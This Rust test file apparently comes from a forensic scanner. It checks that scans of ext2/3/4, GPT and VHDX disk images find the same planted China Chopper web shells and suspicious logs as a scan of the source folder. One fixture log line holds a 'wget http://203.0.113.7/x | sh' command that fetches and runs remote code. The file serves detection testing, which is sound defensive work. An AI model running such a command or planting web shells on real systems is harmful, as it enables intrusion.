//! `ferret scan IMAGE` over the disk of a Linux server: ext2/3/4 volumes made by `mke2fs -d`
//! from a tree at test time, bare, inside a GPT disk and inside a VHDX. The same tree scanned
//! as a folder and as each image gives the same findings (relative path, rule); findings
//! name the path the Linux host knew; links are never followed and FIFOs never opened; a cut
//! image is incomplete (exit 3), never a crash.
#![cfg(feature = "scan")]
#![allow(clippy::disallowed_methods, reason = "tests write their own temporary fixtures")]

mod common;

use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command as Process;

use ferret_testkit::Tree;
use ferret_testkit::disk::{e2fs_tools, ext_volume, gpt_disk};
use serde_json::Value;

use common::{ferret, of_type, records};

fn scan(target: &Path) -> (i32, Vec<Value>) {
    let out = ferret().arg("scan").arg(target).args(["--format", "jsonl"]).output().unwrap();
    (out.status.code().unwrap(), records(&out.stdout))
}

/// (path relative to the tree's root, rule) of every finding; `root` is stripped from the
/// paths of a folder scan, the leading `/` from those of an image.
fn findings(recs: &[Value], root: &str) -> BTreeSet<(String, String)> {
    of_type(recs, "finding")
        .iter()
        .map(|f| {
            let p = f["path"].as_str().unwrap();
            let rel = p.strip_prefix(root).unwrap_or(p).trim_start_matches('/').to_owned();
            (rel, f["rule"]["id"].as_str().or(f["rule"].as_str()).unwrap_or_default().to_owned())
        })
        .collect()
}

fn tools() -> bool {
    ferret_testkit::require("e2fsprogs' mke2fs (Debian package e2fsprogs)", e2fs_tools())
}

/// A Linux web server's tree: with `shells`, a PHP China Chopper dropped in an upload folder
/// and an ASPX one under a Mono site; always the same benign pages, a link from the web root
/// to `/etc/shadow` and a FIFO.
fn server(t: &Tree, shells: bool) -> std::path::PathBuf {
    t.file("srv/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:\n");
    t.file("srv/etc/shadow", "root:*:19000:0:99999:7:::\n");
    t.file("srv/var/www/html/index.php", "<?php echo 'It works'; ?>\n");
    t.file("srv/var/www/html/upload/readme.txt", "uploads go here\n");
    t.file(
        "srv/var/log/apache2/access.log",
        "127.0.0.1 - - [01/Mar/2021:10:00:00 +0000] \"GET / HTTP/1.1\" 200 10\n",
    );
    if shells {
        t.file("srv/var/www/html/upload/thumb.php", ferret_testkit::samples::chopper_php("z"));
        t.file("srv/srv/mono/site/help.aspx", ferret_testkit::samples::chopper_aspx("z"));
    }
    let root = t.root().join("srv");
    std::os::unix::fs::symlink("/etc/shadow", root.join("var/www/html/s")).unwrap();
    std::fs::create_dir_all(root.join("run")).unwrap();
    assert!(Process::new("mkfifo").arg(root.join("run/ctl")).status().unwrap().success());
    root
}

#[test]
fn a_linux_server_image_gives_the_findings_of_its_tree_with_linux_paths() {
    if !tools() {
        return;
    }
    let t = Tree::new();
    let root = server(&t, true);
    let (code, recs) = scan(&root);
    assert_eq!(code, 1, "{recs:#?}");
    let want = findings(&recs, &root.to_string_lossy());
    assert!(want.iter().any(|(p, _)| p == "var/www/html/upload/thumb.php"), "{want:?}");
    assert!(want.iter().any(|(p, _)| p == "srv/mono/site/help.aspx"), "{want:?}");

    let vol = t.path("root.ext4");
    ext_volume(&vol, "ext4", &root, 16, &[]);
    let disk = t.path("server.img");
    gpt_disk(&disk, &[&vol], false);
    let mut images: Vec<(std::path::PathBuf, &str, Option<u64>)> =
        vec![(vol.clone(), "raw", None), (disk.clone(), "raw", Some(1))];
    let qemu = ferret_testkit::require(
        "qemu-img (Debian package qemu-utils)",
        Process::new("qemu-img").arg("--version").output().is_ok(),
    );
    if qemu {
        let vhdx = t.path("server.vhdx");
        let ok = Process::new("qemu-img")
            .args(["convert", "-f", "raw", "-O", "vhdx"])
            .arg(&disk)
            .arg(&vhdx)
            .status()
            .unwrap();
        assert!(ok.success());
        images.push((vhdx, "vhdx-dynamic", Some(1)));
    }
    for (image, format, partition) in images {
        let (code, recs) = scan(&image);
        assert_eq!(code, 1, "{}: {recs:#?}", image.display());
        assert_eq!(findings(&recs, ""), want, "{}", image.display());
        let shell = of_type(&recs, "finding")
            .into_iter()
            .find(|f| f["path"] == "/var/www/html/upload/thumb.php")
            .unwrap();
        let p = &shell["provenance"];
        assert_eq!(p["container"], image.to_str().unwrap(), "{p}");
        assert_eq!(p["container_format"], format, "{p}");
        assert_eq!(p["partition"].as_u64(), partition, "{p}");
        assert_eq!(p["filesystem"], "ext4", "{p}");
        assert!(p["record"].as_u64().unwrap() > 11, "{p}");
        assert!(p["times"]["modified"].is_string(), "{p}");
        assert!(p["times"]["created"].is_string(), "{p}");
        let summary = of_type(&recs, "summary")[0];
        assert!(summary["counters"]["symlinks_not_followed"].as_u64().unwrap() >= 1, "{summary}");
        assert_eq!(summary["skipped"]["fifo"], 1, "{summary}");
        // The link to /etc/shadow is never read, here or on the machine running ferret.
        let problems = of_type(&recs, "problem");
        assert!(
            !recs.iter().any(|r| r["path"] == "/var/www/html/s" && r["type"] != "problem"),
            "{problems:#?}"
        );
        assert!(
            problems.iter().any(|p| p["path"] == "/run/ctl"
                && p["reason"].as_str().unwrap().contains("fifo not opened")),
            "{problems:#?}"
        );
    }

    // The text view names the Linux path and the place in the image.
    let out = ferret().arg("scan").arg(&disk).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("/var/www/html/upload/thumb.php"), "{text}");
    assert!(text.contains("partition 1 (gpt), ext4, inode"), "{text}");
}

#[test]
fn the_benign_twin_image_is_clean_and_ext2_reads_the_same() {
    if !tools() {
        return;
    }
    let t = Tree::new();
    let root = server(&t, false);
    for kind in ["ext4", "ext3", "ext2"] {
        let vol = t.path(format!("twin.{kind}"));
        ext_volume(&vol, kind, &root, 16, &[]);
        let (code, recs) = scan(&vol);
        assert_eq!(code, 0, "{kind}: {recs:#?}");
        assert!(of_type(&recs, "finding").is_empty(), "{recs:#?}");
        let summary = of_type(&recs, "summary")[0];
        assert_eq!(summary["complete"], true, "{summary}");
        assert!(summary["counters"]["files_scanned"].as_u64().unwrap() >= 5, "{summary}");
    }
}

#[test]
fn a_cut_ext4_image_is_incomplete_not_a_crash() {
    if !tools() {
        return;
    }
    let t = Tree::new();
    let root = server(&t, true);
    let vol = t.path("root.ext4");
    ext_volume(&vol, "ext4", &root, 16, &[]);
    let data = std::fs::read(&vol).unwrap();
    for keep in [data.len() / 2, 3000] {
        let cut = t.path("cut.img");
        std::fs::write(&cut, &data[..keep]).unwrap();
        let (code, recs) = scan(&cut);
        assert!(code == 3 || code == 1, "{keep}: {recs:#?}");
        let problems = of_type(&recs, "problem");
        assert!(
            problems.iter().any(|p| p["path"] == cut.to_str().unwrap()),
            "the image is named: {problems:#?}"
        );
        let summary = of_type(&recs, "summary")[0];
        assert_eq!(summary["complete"], false, "{summary}");
    }
}

#[test]
fn hunt_reads_the_logs_inside_an_ext4_image_as_in_the_folder() {
    if !tools() {
        return;
    }
    let logs = Path::new(env!("CARGO_MANIFEST_DIR")).join("../ferret-logs/tests/data/logs");
    let t = Tree::new();
    t.file(
        "srv/var/log/apache2/access.log",
        std::fs::read(logs.join("access_combined.log")).unwrap(),
    );
    t.file("srv/var/log/syslog", std::fs::read(logs.join("syslog_rfc3164.log")).unwrap());
    t.file(
        "srv/var/log/wget.log",
        "Mar  3 01:02:06 web01 cron[9]: (root) CMD (wget http://203.0.113.7/x | sh)\n",
    );
    let root = t.root().join("srv");
    let vol = t.path("logs.ext4");
    ext_volume(&vol, "ext4", &root, 16, &[]);
    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/sigma");
    let hunt = |target: &Path| {
        let out = ferret()
            .args(["hunt", "--format", "jsonl", "--sigma"])
            .arg(&rules)
            .arg(target)
            .output()
            .unwrap();
        let recs: Vec<Value> = String::from_utf8_lossy(&out.stdout)
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        (out.status.code().unwrap(), recs)
    };
    let (code, dir) = hunt(&root);
    assert_eq!(code, 1, "{dir:#?}");
    let want = findings(&dir, &root.to_string_lossy());
    assert!(want.iter().any(|(p, _)| p == "var/log/apache2/access.log"), "{want:?}");
    let (code, img) = hunt(&vol);
    assert_eq!(code, 1, "{img:#?}");
    assert_eq!(findings(&img, ""), want);
    let events = |recs: &[Value]| of_type(recs, "summary")[0]["counters"]["events_read"].clone();
    assert_eq!(events(&img), events(&dir));
    for f in of_type(&img, "finding") {
        assert_eq!(f["provenance"]["filesystem"], "ext4", "{f}");
    }
}
